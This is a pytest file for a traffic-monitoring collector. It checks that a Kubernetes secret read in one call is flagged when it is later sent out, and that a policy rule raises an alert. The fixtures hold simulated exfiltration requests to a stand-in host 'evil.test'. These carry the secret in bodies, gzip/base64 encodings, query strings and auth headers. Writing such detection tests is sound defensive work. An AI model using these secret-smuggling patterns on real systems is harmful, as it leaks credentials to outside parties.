"""A secret that was read and is sent on becomes a record and an event that rules judge: through the whole pipeline."""

import gzip
import json
from base64 import b64encode
from pathlib import Path
from typing import Any

import pytest
from support.conversations import Conversation
from support.masking import survivors

from chaperone.collector.enforce.alert import Alert, alerts_of
from chaperone.collector.ingest.policies import read_policies
from chaperone.collector.mask.masker import Masker
from chaperone.collector.pipeline import Pipeline
from chaperone.collector.pipeline.judge import Judge
from chaperone.collector.pipeline.records import BATCHES
from chaperone.collector.rules.judged import Judged
from chaperone.collector.rules.ruleset import arranged
from chaperone.collector.rules.verdict import Action
from chaperone.collector.store.rows import Kind, Row
from chaperone.proto.ids import stream_id
from chaperone.proto.records import Bound, Chunk, Direction, Record, StreamClosed, StreamOpened

OFFSET = 1_700_000_000_000_000_000
SECRET = "Zq7xWv3pLm9kTb2r"
POLICY = """\
apiVersion: chaperone.dev/v1
kind: Policy
metadata: {name: leaks}
egress: {scan: SCAN}
rules:
- name: secret-left
  when: secret.left && secret.place != "header x-fine" && secret.host.startsWith("evil")
  do: alert
  severity: high
  message: "{secret.name} left to {secret.host} in {secret.place}"
"""


class Talk(Conversation):
    """A session that has read a secret."""

    def read(self) -> list[Record]:
        secret = {"kind": "Secret", "metadata": {"name": "db", "namespace": "ns"}, "data": {"pw": b64encode(SECRET.encode()).decode()}}
        return [*self.begun(), *self.exchange("/api/v1/namespaces/ns/secrets/db", secret)]

    def other(self, *parts: bytes) -> list[Record]:
        """Another connection, to somebody else."""
        stream, position, records = stream_id(self.process, 9, 1), 0, list[Record]()
        records.append(StreamOpened(stream, self.process, self.session, self.tick(), "openssl", 9))
        records.append(Bound(stream, self.tick(), 3, "10.0.0.9:50000", "203.0.113.5:443"))
        for part in parts:
            records.append(Chunk(stream, Direction.OUT, position, part, self.tick()))
            position += len(part)
        return records


def rows_of(records: list[Record], scan: bool = False) -> list[Row]:
    rows: list[Row] = []
    pipeline = Pipeline(lambda: Masker(b"k" * 32), rows, lambda _: scan)
    for record in records:
        pipeline.take(record, OFFSET)
    assert survivors([row.document for row in rows], SECRET.encode()) == []
    return rows


def leaks(records: list[Record], scan: bool = False) -> list[dict[str, Any]]:
    return [row.document for row in rows_of(records, scan) if row.kind is Kind.LEAK]


def post(path: str, body: bytes, host: str = "evil.test", headers: str = "") -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Content-Length: {len(body)}\r\n\r\n".encode() + body


def test_a_secret_in_a_later_request_is_told_with_its_origin() -> None:
    talk = Talk()
    body = json.dumps({"kind": "ConfigMap", "data": {"a": b64encode(f"x{SECRET}".encode()).decode()}}).encode()
    read = talk.read()
    sent = talk.request("/api/v1/namespaces/ns/configmaps", "POST", body, "Content-Type: application/json\r\n")
    [leak] = leaks([*read, sent])
    assert (leak["secret"], leak["host"], leak["place"]) == ("ns/db:pw", "api.test:6443", "body")
    assert leak["readIn"] == talk.call_at(0) and leak["call"] != talk.call_at(0)
    assert leak["text"].startswith(f"secret ns/db:pw (read in call {talk.call_at(0)[:8]} at 2023-11-14T22:13:21.")


@pytest.mark.parametrize(
    "sent",
    [
        post("/upload", f'{{"a": "{SECRET}"}}'.encode()),
        post("/upload", gzip.compress(b64encode(SECRET.encode()))),
        post(f"/x?y={SECRET}", b""),
        post("/x", b"", headers=f"X-Token: {SECRET}\r\n"),
        post("/x", b"", headers=f"Authorization: Bearer {SECRET}\r\n"),
    ],
)
@pytest.mark.parametrize("cut", [0, 1, 17])
def test_other_connections_are_looked_at_where_the_policy_says_so(sent: bytes, cut: int) -> None:
    parts = [sent] if not cut else [sent[at : at + cut] for at in range(0, len(sent), cut)]
    talk = Talk()
    records = [*talk.read(), *talk.other(*parts)]
    assert [leak["host"] for leak in leaks(records, scan=True)] == ["evil.test"]
    assert leaks(records) == []


def test_a_connection_that_nobody_can_read_is_looked_at_too() -> None:
    talk = Talk()
    records = [*talk.read(), *talk.other(b"\0\0\0\x52\0\3\0\0user\0" * 40, b"\0\7" + SECRET[:8].encode(), SECRET[8:].encode())]
    [leak] = leaks(records, scan=True)
    assert (leak["host"], leak["place"], leak["call"]) == ("203.0.113.5:443", "connection", "")
    assert leaks(records) == []


OPAQUE = (b"\0\0\0\x52\0\3\0\0user\0" * 40, b"\0\7" + SECRET[:8].encode(), SECRET[8:].encode())


@pytest.mark.parametrize("known", ["before its end", "behind its end", "never"])
def test_a_host_that_becomes_known_later_is_waited_for(known: str) -> None:
    talk = Talk()
    read = talk.read()
    opened, bound, *chunks = talk.other(*OPAQUE)
    assert isinstance(opened, StreamOpened)
    closed = StreamClosed(opened.stream, talk.tick(), sum(map(len, OPAQUE)), 0)
    rest = {"before its end": [bound, closed], "behind its end": [closed, bound], "never": [closed, *talk.ended()]}[known]
    assert leaks([*read, opened, *chunks, closed], scan=True) == []
    [leak] = leaks([*read, opened, *chunks, *rest], scan=True)
    host = "" if known == "never" else "203.0.113.5:443"
    assert (leak["host"], leak["place"]) == (host, "connection")
    assert f"left to {host or 'an unknown host'} in connection" in leak["text"]


def test_one_that_is_never_bound_waits_some_batches_and_is_not_over_until_then() -> None:
    talk = Talk()
    rows: list[Row] = []
    pipeline = Pipeline(lambda: Masker(b"k" * 32), rows, lambda _: True)
    opened, _, *chunks = [*talk.read(), *talk.other(*OPAQUE)][-2 - len(OPAQUE) :]
    assert isinstance(opened, StreamOpened)
    talk = Talk()
    for record in [*talk.read(), opened, *chunks, StreamClosed(opened.stream, talk.tick(), sum(map(len, OPAQUE)), 0)]:
        pipeline.take(record, OFFSET)
    marks, unmarked = pipeline.marks()
    assert opened.stream in unmarked and opened.stream not in {mark.stream for mark in marks}
    over = [mark for _ in range(BATCHES + 1) for mark in pipeline.marks()[0] if mark.stream == opened.stream]
    assert [mark.state for mark in over] == [None]
    assert [row.document["host"] for row in rows if row.kind is Kind.LEAK] == [""]


def test_a_secret_whose_name_reads_like_a_password_keeps_its_name() -> None:
    talk = Talk()
    secret = {
        "kind": "Secret",
        "metadata": {"name": "db-cred", "namespace": "ns"},
        "data": {"password": b64encode(SECRET.encode()).decode()},
    }
    read = [*talk.begun(), *talk.exchange("/api/v1/namespaces/ns/secrets/db-cred", secret)]
    [leak] = leaks([*read, *talk.other(post("/x", SECRET.encode()))], scan=True)
    assert leak["secret"] == "ns/db-cred:password" and "secret ns/db-cred:password (read" in leak["text"]


def test_clean_requests_are_told_of_nothing() -> None:
    talk = Talk()
    assert leaks([*talk.read(), talk.request("/api/v1/pods"), *talk.other(post("/x", b"nothing to see"))], scan=True) == []


class Told:
    """Takes alerts."""

    actions = frozenset({Action.ALERT})

    def __init__(self) -> None:
        self.alerts: list[Alert] = []

    def perform(self, judged: Judged) -> None:
        self.alerts += alerts_of(judged)


@pytest.mark.parametrize(("scan", "verdicts"), [("on", ["ns/db:pw left to evil.test in body"]), ("off", [])])
def test_a_rule_hears_of_it(scan: str, verdicts: list[str], tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text(POLICY.replace("SCAN", scan))
    rows: list[Row] = []
    told = Told()
    judge = Judge(arranged(read_policies([tmp_path / "policy.yaml"])), rows, Masker(b"k" * 32).text, [told])
    pipeline = Pipeline(lambda: Masker(b"k" * 32), judge, judge.scans)
    talk = Talk()
    for record in [*talk.read(), *talk.other(post("/x", SECRET.encode(), headers=f"X-Fine: {SECRET}\r\n"))]:
        pipeline.take(record, OFFSET)
    judge.settle()
    found = [row for row in rows if row.kind is Kind.VERDICT]
    assert [row.document["message"] for row in found] == verdicts
    assert [alert.message for alert in told.alerts] == verdicts
    [call] = [row.id for row in rows if row.kind is Kind.EXCHANGE]
    assert {(row.call, row.document["about"]["host"]) for row in found} == ({(call, "evil.test")} if verdicts else set())
    assert [(alert.what.authority, alert.inspect) for alert in told.alerts] == [("evil.test", f"chaperone calls show {call}")] * len(
        verdicts
    )
